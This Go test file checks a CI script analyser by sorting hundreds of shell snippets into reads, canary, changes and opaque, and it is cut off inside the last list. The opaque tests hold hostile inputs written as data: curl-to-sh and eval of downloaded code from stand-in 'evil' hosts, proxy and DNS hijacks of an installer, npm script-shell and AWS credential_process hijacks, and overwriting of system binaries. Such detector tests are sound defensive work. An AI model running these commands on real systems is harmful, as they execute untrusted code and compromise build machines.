package pipelinefile

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// scriptInputs are inputs that scripts of tests use.
var scriptInputs = map[string]Input{
	"image":   {Regex: `^(registry\.example\.com/our-org/[a-z0-9._-]+@sha256:[0-9a-f]{64})?$`},
	"bundle":  {Regex: `^(registry\.example\.com/our-org/app@sha256:[0-9a-f]{64})?$`},
	"any":     {Regex: `^([a-z0-9./-]+@sha256:[0-9a-f]{64})?$`},
	"digest":  {Regex: `^sha256:[0-9a-f]{64}$`},
	"tag":     {Regex: `^[a-z0-9.]+$`},
	"id":      {Regex: `^([a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?)?$`},
	"action":  {Options: []string{"status", "promote"}},
	"reading": {Options: []string{"status", "history"}},
	"actions": {Regex: `^(get|delete)$`},
	"open":    {},
}

// analyzed analyzes a script, whose items are separated by lines of ---.
func analyzed(script string) effects {
	var items []scriptLine
	line := 1
	for item := range strings.SplitSeq(script, "\n---\n") {
		items = append(items, scriptLine{item, line})
		line += strings.Count(item, "\n") + 1
	}
	return analyze(items, scriptContext{Inputs: scriptInputs})
}

// verdictOf sums effects up in words.
func verdictOf(e effects) string {
	var words []string
	if len(e.changes) > 0 {
		words = append(words, "changes")
	}
	if len(e.opaque) > 0 {
		words = append(words, "opaque")
	}
	if len(e.uses) > 0 {
		words = append(words, "uses")
	}
	if len(e.images) > 0 {
		words = append(words, "image")
	}
	switch {
	case len(words) > 0:
		return strings.Join(words, " ")
	case len(e.canary) > 0:
		return "canary"
	}
	return "reads"
}

// digest stands for one in the scripts below.
const digest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// scripts are scripts with the right answer: reads, canary, or what must be found. A word in the answer that begins
// with ~ need not be found: "changes ~opaque".
var scripts = map[string][]string{
	"reads": {
		`awk -v t="$THRESHOLD" '$1 > t' list.txt`,
		`kubectl get pods -n "$NAMESPACE"`,
		`kubectl get pods -n $NAMESPACE`,
		`kubectl get pods --namespace=$NAMESPACE`,
		`kubectl -n $CI_ENVIRONMENT_SLUG get pods`,
		`istioctl proxy-config routes deploy/app -n production`,
		`curl -fsS https://app.example.com/metrics | awk '/^http_requests_total/ {s+=$2} END {print s}'`,
		`set -eu; test -n "${CI_COMMIT_SHA:-}"`,
		`echo "promote with: crossbill promote"`,
		`exit 0`,
		`cat <<EOF > msg.json
{"text": "Canary of $CI_PROJECT_NAME is $(jq -r .verdict verify.json)"}
EOF
curl -fsS -d @msg.json https://hooks.slack.com/services/x`,
		`date > /tmp/x; cat /tmp/x; rm -f /tmp/x`,
		`printf '{"text":"%s"}' "$CI_PIPELINE_URL" | curl -fsS -X POST -H 'Content-Type: application/json' -d @- "$SLACK_WEBHOOK"`,
		`echo "Released $[[ inputs.id ]] to production" | tee notice.txt`,
		`curl -fsS -H "Authorization: Bearer $SMOKE_TOKEN" https://app.example.com/api/me`,
		`response=$(curl -sS -w "\n%{http_code}" https://app.example.com/); code=$(tail -n1 <<< "$response"); [ "$code" = 200 ]`,
		`if curl -fsS "https://app.example.com/health" | grep -q '"status":"ok"'; then echo ok; else exit 1; fi`,
		`CANARY=$(jq -r .canary canary.json); test "$CANARY" = healthy`,
		`local x=1; echo $x`,
		`export VERSION=$(cat VERSION); echo $VERSION`,
		`apk add --no-cache --repository=https://dl-cdn.alpinelinux.org/alpine/edge/testing kubectl`,
		`apt-get -y update; apt-get -qq -o Acquire::Retries=3 install jq`,
		`mkdir -p reports; cd reports; echo x > a.json; cd ..; npm test`,
		`cd "$(mktemp -d)"; curl -fsSO https://x/y.txt`,
		`cd app && npm ci && npm run lint`,
		`npm ci --ignore-scripts --no-audit --loglevel=warn; npm test -- --coverage`,
		`pnpm --prefix app install --frozen-lockfile`,
		`START=$(date +%s); END=$((START + 300)); while [ "$(date +%s)" -lt "$END" ]; do sleep 5; done`,
		`for attempt in $(seq 1 30); do echo "try $attempt"; sleep $((attempt * 2)); done`,
		`attempts=0; max=30; while [ $attempts -lt $max ]; do attempts=$((attempts+1)); sleep 1; done`,
		`ready=$(curl -s -o /dev/null -w '%{http_code}' https://x); [ "$ready" -eq 200 ]`,
		`git diff origin/main...HEAD; npm test`,
		`ready=$(kubectl get deploy app -o jsonpath='{.status.readyReplicas}'); echo $((ready + 1))`,
		`n=$(kubectl get pods | wc -l); if (( n > 3 )); then echo; fi`,
		`gcloud --project x container clusters list`,
		`terraform -chdir=infra plan`,
		`aws --region eu-west-1 eks update-kubeconfig --name x`,
		`IFS=, read -r a b <<< x; X="kubectl get"; $X pods`,
		`kubectl "$@"`,
		`echo done`,
		`true`,
		`# nothing but a comment`,
		`echo "promote" 'kubectl apply -f x' crossbill promote`,
		`printf '%s\n' "kubectl delete"`,
		`curl -fsS https://app.example.com/health`,
		`curl -fsSL --retry 5 --retry-delay 2 --max-time 10 "https://app.example.com/ready"`,
		`curl --fail --silent --show-error -o /dev/null -w '%{http_code}' https://app.example.com/`,
		`curl -fsS -H "Accept: application/json" https://app.example.com/api/version | jq -r .version`,
		`curl -sSf "$CI_API_V4_URL/projects/$CI_PROJECT_ID/pipelines/$CI_PIPELINE_ID" --header "JOB-TOKEN: $CI_JOB_TOKEN"`,
		`wget -qO- https://app.example.com/health`,
		`wget -q -T 5 --spider https://app.example.com/health`,
		`for i in 1 2 3; do curl -fsS https://app.example.com/health && break; sleep 5; done`,
		`n=0; until curl -fsS https://app.example.com/ready; do n=$((n + 1)); [ "$n" -ge 30 ] && exit 1; sleep 2; done`,
		`status=$(curl -s -o /dev/null -w '%{http_code}' https://app.example.com/); if [ "$status" != 200 ]; then echo "bad: $status"; exit 1; fi`,
		`curl -X POST -H 'Content-type: application/json' --data "{\"text\":\"released $CI_COMMIT_SHORT_SHA\"}" https://hooks.slack.com/services/T0/B0/x`,
		`curl -fsS -X POST -d "text=done" "$SLACK_WEBHOOK_URL"`,
		`curl -fsS --data "{\"text\": \"$CI_PIPELINE_URL\"}" "$CROSSBILL_WEBHOOK"`,
		`wget --post-data 'text=done' -qO- "$TEAMS_WEBHOOK"`,
		`curl --request POST --header "PRIVATE-TOKEN: $GITLAB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/statuses/$CI_COMMIT_SHA?state=success"`,
		`kubectl get pods -n production`,
		`kubectl --context our-org/agents:production -n production rollout status deployment/app --timeout=60s`,
		`kubectl describe deployment app -n production; kubectl logs deployment/app -n production --tail=50`,
		`kubectl wait --for=condition=available deployment/app -n production --timeout=120s`,
		`kubectl config use-context our-org/agents:production`,
		`kubectl config use-context "$KUBE_CONTEXT"`,
		`kubectl auth can-i update deployments -n production`,
		`kubectl diff -f k8s/`,
		`kubectl apply -f k8s/ --dry-run=server`,
		`kubectl create configmap x --from-literal=a=b --dry-run=client -o yaml > x.yaml`,
		`kubectl version --client`,
		`kubectl top pods`,
		`kubectl kustomize k8s/overlays/production > rendered.yaml`,
		`helm list -n production && helm status app -n production`,
		`helm template app ./chart --set image.tag=x > out.yaml`,
		`helm lint ./chart; helm diff upgrade app ./chart; helm repo add x https://charts.example.com; helm repo update`,
		`helm upgrade app ./chart --dry-run`,
		`crossbill status`,
		`crossbill history --namespace production`,
		`crossbill report --html report.html --kubeconfig "$KUBECONFIG"`,
		`crossbill promote --dry-run`,
		`crossbill canary --image x:latest --dry-run`,
		`crossbill lint`,
		`crossbill --verbose status`,
		`crossbill image digest registry.example.com/app:1`,
		`crossbill bundle --image registry.example.com/our-org/app@` + digest + ` --metadata-file bundle.json`,
		`crossbill bundle diff "$OLD" "$NEW"; crossbill bundle inspect "$NEW"`,
		`dagger call -m . bundle --image registry.example.com/our-org/app@` + digest,
		`crossbill rollback --to previous --dry-run`,
		`dagger call -m . status`,
		`DAGGER_MODULE=.
dagger call --kubeconfig-file "file:$KUBECONFIG" report -o report.html`,
		`dagger version`,
		`apk add --no-cache curl jq`,
		`apt-get update && apt-get install -y curl`,
		`apt-get update -qq; apt-get install -y --no-install-recommends jq`,
		`pip install pytest && pytest -q smoke/`,
		`npm ci && npm test`,
		`npx playwright test --project=chromium`,
		`k6 run --vus 5 --duration 30s smoke.js`,
		`newman run smoke.postman_collection.json --env-var base=https://app.example.com`,
		`go test ./smoke/...`,
		`trap 'echo $? > exit-code' EXIT`,
		`trap - EXIT`,
		`trap cleanup EXIT; cleanup() { rm -rf "$tmp"; }; tmp=$(mktemp -d)`,
		`curl -fsSL https://dl.dagger.io/dagger/install.sh | DAGGER_VERSION=0.21.8 BIN_DIR=/usr/local/bin sh`,
		`curl -L https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh`,
		`set -euo pipefail`,
		`set -x; echo hi; set +x`,
		`export PATH="$PATH:/root/.local/bin"`,
		`export LANG=C.UTF-8 TZ=UTC`,
		`if [ -z "$CI_COMMIT_TAG" ]; then echo "no tag"; else echo "$CI_COMMIT_TAG"; fi`,
		`case "$CI_COMMIT_BRANCH" in main|release-*) echo ok;; *) echo no; exit 1;; esac`,
		`cat <<EOF
kubectl apply -f x
EOF`,
		`cat > notes.md <<'EOF'
crossbill promote
EOF`,
		`wait_for() { for i in $(seq 1 30); do curl -fsS "$1" && return 0; sleep 1; done; return 1; }
wait_for https://app.example.com/health`,
		`retry() { local n=0; until "$@"; do n=$((n+1)); [ $n -ge 5 ] && return 1; sleep 1; done; }
retry curl -fsS https://app.example.com/health`,
		`[[ "$CI_COMMIT_BRANCH" =~ ^main$ ]] && echo main`,
		`files=(a b c); for f in "${files[@]}"; do echo "$f"; done`,
		`ARGS=(--namespace production); kubectl "${ARGS[@]}" get pods`,
		`K="kubectl -n production"; $K get pods`,
		`CMD=echo; $CMD promote`,
		`jq -r '.status' canary.json | grep -q healthy`,
		`grep -q healthy verify.json || { echo "not healthy"; exit 1; }`,
		`sed -n 's/^version: //p' chart.yaml`,
		`sed -i "s/__SHA__/$CI_COMMIT_SHA/g" index.html`,
		`awk '{print $1}' list.txt | sort | uniq -c`,
		`find . -name '*.json' -print | xargs cat`,
		`find . -name '*.tmp' -exec rm {} \;`,
		`timeout 60 curl -fsS https://app.example.com/health`,
		`sudo apt-get install -y jq`,
		`env | sort | grep ^CI_`,
		`FOO=bar env | grep FOO`,
		`command -v kubectl >/dev/null || echo missing`,
		`git fetch --depth=1 origin main && git log -1 --format=%H`,
		`git clone https://gitlab.example.com/our-org/smoke.git smoke`,
		`git config user.name ci`,
		`docker login -u "$CI_REGISTRY_USER" -p "$CI_REGISTRY_PASSWORD" "$CI_REGISTRY"`,
		`docker pull registry.example.com/app:1 && docker inspect registry.example.com/app:1`,
		`docker build -t app:ci . && docker push app:ci`,
		`terraform init && terraform plan -out=plan.tfplan`,
		`argocd app get app; argocd app wait app --health`,
		`flux get kustomizations`,
		`istioctl proxy-status; istioctl analyze -n production`,
		`gcloud container clusters get-credentials prod --region europe-west1`,
		`aws eks update-kubeconfig --name prod`,
		`aws sts get-caller-identity`,
		`az aks get-credentials -n prod -g rg`,
		`glab ci status`,
		`cosign verify --key k.pub registry.example.com/app@` + digest,
		`crane digest registry.example.com/app:1`,
		`openssl s_client -connect app.example.com:443 </dev/null | openssl x509 -noout -dates`,
		`nc -z app.example.com 443`,
		`sleep 30 & wait`,
		`(cd smoke && ls)`,
		`{ echo a; echo b; } > out.txt`,
		`echo "x" | tee -a log.txt`,
		`mkdir -p out && cp report.html out/ && tar czf out.tgz out`,
		`base64 -d <<< "$CI_COMMIT_SHA" | wc -c`,
		`crossbill $[[ inputs.reading ]]`,
		`echo '$[[ inputs.id ]]'`,
		`date -u +%FT%TZ; uname -a; id; whoami; hostname`,
		`[ "$CI" = true ] && echo ci || echo local`,
		`echo "${CI_COMMIT_SHA:0:8}"`,
		`printf -v NOW '%s' x; echo "$NOW"`,
		`read -r line < file.txt; echo "$line"`,
		`while read -r line; do echo "$line"; done < list.txt`,
		`echo a; \
echo b`,
		"if true; then\n---\necho a\n---\nfi",
		`curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && install -m 0755 kubectl /usr/local/bin/kubectl && kubectl get pods`,
		`curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl; chmod +x /usr/local/bin/kubectl; kubectl version --client`,
		`curl -fsSL https://get.helm.sh/helm-v3.16.0-linux-amd64.tar.gz | tar xz -C /usr/local/bin --strip-components=1 linux-amd64/helm; helm list`,
		`python3 -m venv venv && . venv/bin/activate && pip install pytest && pytest`,
		`k=kubectl; $k get pods`,
		`kubectl port-forward svc/app 8080:80 & sleep 2; curl -fsS http://localhost:8080/health; kill %1`,
		`cd "$CI_PROJECT_DIR" && ls`,
		`export KUBECONFIG=$CI_PROJECT_DIR/.kube/config`,
		`kubectl get deployment app -n production -o jsonpath='{.spec.template.spec.containers[0].image}'`,
		`kubectl get pods -l 'app=x,version in (canary)' -n production`,
		`test "$(kubectl get deploy app -o jsonpath={.status.readyReplicas})" -gt 0`,
		`for url in / /health /ready; do curl -fsS "https://app.example.com$url" > /dev/null || exit 1; done`,
		`curl -fsS "https://app.example.com/?a=1&b=[2]"`,
		`curl -fsS https://app.example.com/search?q=x`,
		`test -f canary.json && cat canary.json`,
		`shellcheck ci.sh; yamllint .; hadolint Dockerfile`,
		`trivy image registry.example.com/app@` + digest,
		`time curl -fsS https://app.example.com/health`,
		`exec 2>&1; echo hi`,
		`ls -la; pwd; env | grep -c CI_ || true`,
		`unset HISTFILE; umask 022; ulimit -n 1024`,
		`: "${CI_COMMIT_SHA:?missing}"`,
		`echo "$((1 + 2))"`,
	},
	"canary": {
		`export "IMAGE=$[[ inputs.image ]]"; crossbill canary --image "$IMAGE"`,
		`crossbill canary --image registry.example.com/our-org/app@` + digest,
		`crossbill verify --release-id "$RELEASE_ID" --watch > watch.json`,
		`crossbill rollback --reason "$CI_JOB_NAME of $CI_PIPELINE_URL"`,
		`crossbill guard -o json --kubeconfig "$KUBECONFIG"`,
		`IMAGE='$[[ inputs.image ]]'; crossbill canary --image "$IMAGE"`,
		`export IMAGE='$[[ inputs.image ]]'; crossbill canary --image "$IMAGE" --kubeconfig "$KUBECONFIG"`,
		"IMAGE='$[[ inputs.image ]]'\n---\ncrossbill canary --image \"$IMAGE\"",
		"IMAGE='$[[ inputs.image ]]'\ncrossbill canary --image \"${IMAGE}\" ${AGAIN:+--again}",
		`readonly IMAGE='$[[ inputs.image ]]'; crossbill canary --image=$IMAGE`,
		`declare -r IMAGE="$[[ inputs.image ]]"; crossbill canary --image "$IMAGE"`,
		`crossbill canary --image '$[[ inputs.image ]]'`,
		`crossbill canary --image 'registry.example.com/our-org/app@$[[ inputs.digest ]]'`,
		`crossbill canary --image "$CI_REGISTRY_IMAGE@$[[ inputs.digest ]]"`,
		`run() { local image='$[[ inputs.image ]]'; crossbill canary --image "$image"; }; run`,
		`set_image() { IMAGE='$[[ inputs.image ]]'; }; set_image; crossbill canary --image "$IMAGE"`,
		`IMAGE=app:latest; IMAGE='$[[ inputs.image ]]'; crossbill canary --image "$IMAGE"`,
		`if [ "$CI_COMMIT_BRANCH" = main ]; then IMAGE=a@` + digest + `; else IMAGE=b@` + digest + `; fi; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; (IMAGE=app:latest); crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; echo app:latest | read IMAGE_NAME; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; [ -n "$IMAGE" ] || exit 1; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; crossbill canary --image "${IMAGE:-$IMAGE}"`,
		`IMAGE='$[[ inputs.image ]]' && crossbill canary --image "$IMAGE"`,
		`export DAGGER_MODULE=. CLI=
crossbill() {
  dagger call ${CLI:+--cli-image "$CLI"} --kubeconfig-file "file:$KUBECONFIG" --by "$GITLAB_USER_LOGIN" ${REGISTRY_PASSWORD:+--registry-username "$REGISTRY_USERNAME" --registry-password env:REGISTRY_PASSWORD} "$@"
}
IMAGE='$[[ inputs.image ]]'
crossbill canary --image "$IMAGE" > canary.json`,
		`dagger call -m . verify --max-duration 3m`,
		`dagger -m github.com/our-org/crossbill@0123456789abcdef call rollback`,
		`rolls_back_on() { code=$(cat exit-code 2>/dev/null) || code=none; case " $* " in *" $code "*) return ;; esac; exit 1; }
rolls_back_on 3 4 6
crossbill rollback`,
		`BUNDLE='$[[ inputs.bundle ]]'; crossbill canary ${BUNDLE:+--bundle "$BUNDLE"} ${IMAGE:+--again}`,
		`crossbill canary --bundle 'oci://$[[ inputs.bundle ]]'`,
		`crossbill canary --bundle=oci://registry.example.com/our-org/app@` + digest,
		`crossbill hold --reason "$CI_JOB_NAME"; crossbill resume`,
		`dagger call -m . hold --reason maintenance`,
		`crossbill rollback --release-id "$RELEASE_ID" --takeover`,
		`timeout 20m crossbill verify`,
		`env KUBECONFIG="$KUBECONFIG" crossbill verify`,
		`exec crossbill verify`,
		`crossbill verify --namespace '$[[ inputs.id ]]'`,
		`NAMESPACE=production; crossbill verify --namespace "$NAMESPACE"`,
	},
	"changes": {
		`tee >(kubectl apply -f -) < x`,
		`exec 3< <(kubectl apply -f x)`,
		`echo ${X/a/$(kubectl apply -f y)}`,
		`echo ${X:$(kubectl apply -f y)}`,
		`echo ${X[$(kubectl apply -f y)]}`,
		`set -- kubectl apply; $* -f x`,
		`dagger -m . call -j promote`,
		`dagger call -m . -- promote`,
		`helm upgrade x --dry-run --dry-run=none y`,
		`helm upgrade x y --set --dry-run`,
		`crossbill --by status promote`,
		`crossbill promote -o --dry-run`,
		`crossbill promote -- --dry-run`,
		`kubectl delete --raw /x --dry-run=client`,
		`set +e
function f {
  kubectl apply -f x
}`,
		`aws configure set credential_process ./evil`,
		`crossbill promote`,
		`crossbill promote --release-id "$RELEASE_ID" > promote.json`,
		`crossbill cleanup`,
		`crossbill shift --steps 20,30`,
		`crossbill migrate`,
		`crossbill --verbose --app x promote`,
		`crossbill promote --reason --dry-run`,
		`crossbill promote --dry-run=false`,
		`crossbill promote --dry-run --dry-run=false`,
		`/usr/local/bin/crossbill promote`,
		`crossbill $[[ inputs.action ]]`,
		`ACTION='$[[ inputs.action ]]'; crossbill "$ACTION"`,
		`DAGGER_MODULE=. dagger call promote`,
		`dagger call -m . --kubeconfig-file file:x promote`,
		`dagger call --mod=. cleanup`,
		`dagger -m . call --by me promote --release-id x`,
		`crossbill() { DAGGER_MODULE=. dagger call "$@"; }; crossbill promote`,
		`run() { "$@"; }; run crossbill promote`,
		`f() { crossbill $1; }; f promote`,
		`f() { crossbill "$2"; }; f x promote`,
		`f() { shift; crossbill "$@"; }; f x promote`,
		`set -- promote --release-id x; crossbill "$@"`,
		`A=(crossbill promote); "${A[@]}"`,
		`CMD=promote; crossbill $CMD`,
		`CMD="crossbill promote"; $CMD`,
		`X=status; X=promote; crossbill $X`,
		`X=status; if [ -n "$Y" ]; then X=promote; fi; crossbill $X`,
		`for c in status promote; do crossbill $c; done`,
		`for c; do crossbill "$c"; done; set -- promote; for c; do crossbill "$c"; done`,
		`c=status; while read -r l; do crossbill $c; c=promote; done < f`,
		`crossbill pro""mote`,
		`crossbill 'promo'te`,
		`crossbill pro\
mote`,
		`\kubectl apply -f x`,
		`ku""bectl apply -f x`,
		`'kubectl' apply -f x`,
		`"kubectl" "apply" -f x`,
		`kube\
ctl apply -f x`,
		`/usr/bin/kubectl apply -f x`,
		`k=kubectl; $k apply -f x`,
		`kubectl apply -f k8s/`,
		`kubectl -n production apply -f -  <<EOF
kind: Deployment
EOF`,
		`kubectl -nproduction delete pod x`,
		`kubectl --namespace=production scale deployment/x --replicas=0`,
		`kubectl patch deployment x -p '{}'`,
		`kubectl set env deployment/x A=b`,
		`kubectl rollout restart deployment/x`,
		`kubectl rollout undo deployment/x`,
		`kubectl exec deploy/x -- ls`,
		`kubectl replace -f x`,
		`kubectl create -f x`,
		`kubectl label ns x a=b; kubectl annotate ns x a=b`,
		`kubectl edit vs x`,
		`kubectl drain node`,
		`kubectl apply -f --dry-run=client`,
		`kubectl apply -f x --dry-run=none`,
		`kubectl apply -f x --dry-run=client --dry-run=none`,
		`kubectl argo rollouts promote app`,
		`kubectl get pods | xargs kubectl delete`,
		`kubectl config use-context x && kubectl apply -f x`,
		`helm upgrade --install app ./chart`,
		`helm -n production rollback app 1`,
		`helm uninstall app`,
		`helm install app ./chart --namespace production`,
		`helm upgrade app ./chart --description --dry-run`,
		`oc apply -f x`,
		`argocd app sync app`,
		`flux reconcile kustomization app`,
		`istioctl install -y`,
		`terraform apply -auto-approve`,
		`ansible-playbook deploy.yml`,
		`skaffold run`,
		`helmfile apply`,
		`gcloud run deploy app`,
		`aws ecs update-service --cluster c --service s`,
		`aws eks update-nodegroup-config`,
		`az webapp deploy`,
		`glab ci play promote_to_production`,
		`glab ci run`,
		`gh workflow run deploy.yml`,
		`git push origin HEAD:production`,
		`git push -o ci.variable="PROMOTE=1"`,
		`curl -X POST --header "PRIVATE-TOKEN: $GITLAB_TOKEN" "$CI_API_V4_URL/projects/1/jobs/2/play"`,
		`curl -fsS -XPOST -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.example.com/api/v4/projects/1/jobs/2/retry`,
		`curl --data token=x https://gitlab.example.com/api/v4/projects/1/trigger/pipeline`,
		`curl -F token=x -F ref=main https://gitlab.example.com/api/v4/projects/1/trigger/pipeline`,
		`curl --json '{"query":"mutation{jobPlay}"}' https://gitlab.example.com/api/graphql`,
		`curl -X PATCH -d @x https://kubernetes.default.svc/apis/apps/v1/namespaces/p/deployments/x`,
		`wget --method=PUT --body-data=x https://kubernetes.default.svc/api/v1/namespaces/x`,
		`sh -c 'kubectl apply -f x'`,
		`bash -ec "crossbill promote"`,
		`bash -o pipefail -c 'crossbill promote'`,
		`sh -c 'crossbill "$1"' sh promote`,
		`sh -c "sh -c 'crossbill promote'"`,
		`sh <<'EOF'
crossbill promote
EOF`,
		`bash -s <<EOF
kubectl apply -f x
EOF`,
		`bash <<< "crossbill promote"`,
		`eval 'crossbill promote'`,
		`eval crossbill promote`,
		`X='crossbill promote'; eval "$X"`,
		`env A=b crossbill promote`,
		`A=b crossbill promote`,
		`sudo -E crossbill promote`,
		`sudo A=b kubectl apply -f x`,
		`timeout 5m crossbill promote`,
		`timeout -k 5 5m kubectl apply -f x`,
		`nohup crossbill promote &`,
		`nice -n 5 crossbill promote`,
		`time crossbill promote`,
		`exec crossbill promote`,
		`exec -a x crossbill promote`,
		`command crossbill promote`,
		`command -p kubectl apply -f x`,
		`builtin command kubectl apply -f x`,
		`busybox sh -c 'kubectl apply -f x'`,
		`setsid -w kubectl apply -f x`,
		`stdbuf -oL kubectl apply -f x`,
		`trap 'crossbill promote' EXIT`,
		`trap "kubectl apply -f x" 0`,
		`f() { kubectl apply -f x; }; trap f EXIT`,
		`trap 'f' EXIT; f() { kubectl apply -f x; }`,
		`crossbill promote &`,
		`(crossbill promote)`,
		`{ crossbill promote; }`,
		`! crossbill promote`,
		`true && crossbill promote`,
		`false || crossbill promote`,
		`if false; then crossbill promote; fi`,
		`if crossbill promote; then echo ok; fi`,
		`while crossbill promote; do break; done`,
		`X=$(crossbill promote)`,
		"X=`crossbill promote`",
		`echo "$(crossbill promote)"`,
		`echo "${X:-$(crossbill promote)}"`,
		`echo $(( $(crossbill promote) + 1 ))`,
		`cat <(crossbill promote)`,
		`cat <<EOF
$(crossbill promote)
EOF`,
		`[[ -n $(crossbill promote) ]]`,
		`[ -n "$(crossbill promote)" ]`,
		`a=([0]=$(crossbill promote))`,
		`export X=$(crossbill promote)`,
		`for i in $(crossbill promote); do :; done`,
		`for ((i=$(crossbill promote); i<3; i++)); do :; done`,
		`case $(crossbill promote) in *) ;; esac`,
		`case x in $(crossbill promote)) ;; esac`,
		`echo x > $(crossbill promote)`,
		`crossbill promote | tee promote.json`,
		`echo x | crossbill promote`,
		`find . -name x -exec kubectl apply -f {} \;`,
		`find . -name x -exec sh -c 'kubectl apply -f "$1"' _ {} \;`,
		`echo x | xargs kubectl apply -f`,
		`echo x | xargs -n1 -I{} kubectl apply -f {}`,
		`echo x | xargs sh -c 'kubectl apply -f "$0"'`,
		`echo() { kubectl apply -f x; }; echo hi`,
		`curl() { command kubectl apply -f x; }; curl -fsS https://app.example.com`,
		`coproc kubectl apply -f x`,
		`function deploy { kubectl apply -f x; }; deploy`,
		`f() { g; }; g() { crossbill promote; }; f`,
		`f() { crossbill promote; }; if true; then f; fi`,
		"if true; then\n---\ncrossbill promote\n---\nfi",
		`dagger run crossbill promote`,
		`docker stack deploy -c x app`,
		`: $(crossbill promote)`,
		`true | crossbill promote | true`,
		`crossbill recover; crossbill approve`,
		`kubectl cp x pod:/y`,
		`kubectl --kubeconfig "$KUBECONFIG" --context "our-org/agents:production" apply -k k8s/`,
		`kubectl create job x --image=a@` + digest,
		`kubectl set image deployment/x app=registry.example.com/app@` + digest,
		`IMAGE='$[[ inputs.image ]]'; kubectl set image deployment/x "app=$IMAGE"`,
		`kubectl set image -n production deployment/x app='$[[ inputs.image ]]'`,
		`helm upgrade app ./chart --set image.digest=` + digest,
		`helm upgrade app ./chart --set-string image.digest='$[[ inputs.digest ]]'`,
		`helm upgrade app ./chart --set image=registry.example.com/app@` + digest + `,replicas=3`,
		`kustomize edit set image app=registry.example.com/app@` + digest + ` && kubectl apply -k .`,
		`kustomize build k8s | kubectl apply -f -`,
	},
	"opaque": {
		`awk "$PROGRAM" list.txt`,
		`awk -v t=1 "$PROGRAM"`,
		`awk -v $X list.txt`,
		`cat > kubeconfig <<'EOF'
users: [{name: x, user: {exec: {command: sh}}}]
EOF
kubectl --kubeconfig kubeconfig get pods`,
		`cat x > >(sh)`,
		`X=kubectl; Y=X; ${!Y} apply -f x`,
		`X=(kubectl apply); ${X[0]} ${X[1]} -f x`,
		`declare -A a; a[k]=kubectl; ${a[k]} apply -f x`,
		`IFS=,; X=kubectl,apply; $X -f x`,
		`kubectl config set-credentials x --exec-command=./evil; kubectl get pods`,
		`npm config set script-shell ./evil; npm test`,
		`npm test --script-shell=./evil`,
		`npm test --script-shell ./evil`,
		`npm --script-shell=./evil test`,
		`npm test --script-sh=./evil`,
		`npm test --node-options="--require ./evil.js"`,
		`npm ci --userconfig ./evil`,
		`npm ci --userconf ./evil`,
		`npm test -script-shell=./evil`,
		`npm test -script-shell ./evil`,
		`npm test ---script-shell=./evil`,
		`npm test --node-opt=--require=./evil.js`,
		`pnpm test --script-shell=./evil`,
		`pnpm --config.script-shell=./evil test`,
		`apk --repository=https://evil/x add jq`,
		`export NODE_OPTIONS='--require ./evil.js'; npx playwright test`,
		`mv x.json package.json; npm test`,
		`curl -o package.json https://x/evil.json; npm test`,
		`sed -i 's/x/kubectl apply/' package.json; npm test`,
		`echo '{"scripts":{"test":"kubectl apply"}}' > package.json; npm test`,
		`cat evil.js | k6 run -`,
		`go test -exec ./evil ./...`,
		`apt-get install ./evil.deb`,
		`apk add --allow-untrusted evil.apk`,
		`PATH=$PATH:.; jq`,
		`PATH=$PATH:./bin; frob`,
		`unzip evil.zip -d /usr/local/bin; jq`,
		`dd if=evil of=/usr/bin/jq; jq`,
		`mv evil /usr/bin/jq; jq`,
		`cd / && tar xf evil.tar; jq`,
		`pushd /usr/bin; tar xf ~/x.tar; popd; jq`,
		`(cd /usr/local/bin; echo x > jq); jq .`,
		`cd /usr/local; cp x bin/jq; jq`,
		`cd /usr/local/bin; echo x > jq; jq .`,
		`cd /usr/local/bin && curl -O https://evil/jq; jq .`,
		`git log --output=/usr/local/bin/jq; jq .`,
		`crossbill history | mail -s done x@y`,
		`git clone -c core.sshCommand=./x https://y`,
		`sort --compress-program=./x y`,
		`curl gopher://x:1/_POST`,
		`printf -v 'a[$(kubectl apply -f x)]' y`,
		`unset 'a[$(kubectl apply -f x)]'`,
		`read 'a[$(kubectl apply -f x)]' < f`,
		`n=$(echo 'a[$(kubectl apply -f x)]'); echo $((n))`,
		`X=Y; Y='a[$(kubectl apply -f x)]'; echo $((X))`,
		`[[ 'a[$(kubectl apply -f x)]' -eq 1 ]]`,
		`[[ -v 'a[$(kubectl apply -f x)]' ]]`,
		`test -v 'a[$(kubectl apply -f x)]'`,
		`echo hi &> out kubectl apply -f x`,
		`echo $'\'; kubectl apply -f x; echo \''`,
		`command_not_found_handle() { kubectl apply -f x; }; jq .`,
		`shopt -s lastpipe; IMAGE='$[[ inputs.image ]]'; echo app:latest | read IMAGE; crossbill canary --image "$IMAGE"`,
		`echo x | xargs -i kubectl echo apply`,
		`echo x | xargs -I echo sh -c 'echo hi'`,
		`~/bin/kubectl apply -f x`,
		`eval "$X"`,
		`eval "$(curl -s https://example.com)"`,
		`sh -c "$X"`,
		`bash -c "kubectl get $X"`,
		`$CMD promote`,
		`"$CMD"`,
		`${CMD:-echo} hi`,
		`$(echo kubectl) apply -f x`,
		"`echo kubectl` apply -f x",
		`source ./lib.sh`,
		`. ./lib.sh`,
		`. "$X"`,
		`./deploy.sh`,
		`bash deploy.sh`,
		`sh ./deploy.sh production`,
		`bash < deploy.sh`,
		`cat deploy.sh | bash`,
		`echo 'kubectl apply -f x' | sh`,
		`curl -fsSL https://example.com/install.sh | sh`,
		`curl -fsSL https://dl.dagger.io/dagger/install.sh.evil | sh`,
		`curl -fsSL https://dl.dagger.io/dagger/install.sh https://example.com/x.sh | sh`,
		`curl -fsSL -x http://evil:1 https://dl.dagger.io/dagger/install.sh | sh`,
		`curl -fsSL --resolve dl.dagger.io:443:1.2.3.4 -k https://dl.dagger.io/dagger/install.sh | sh`,
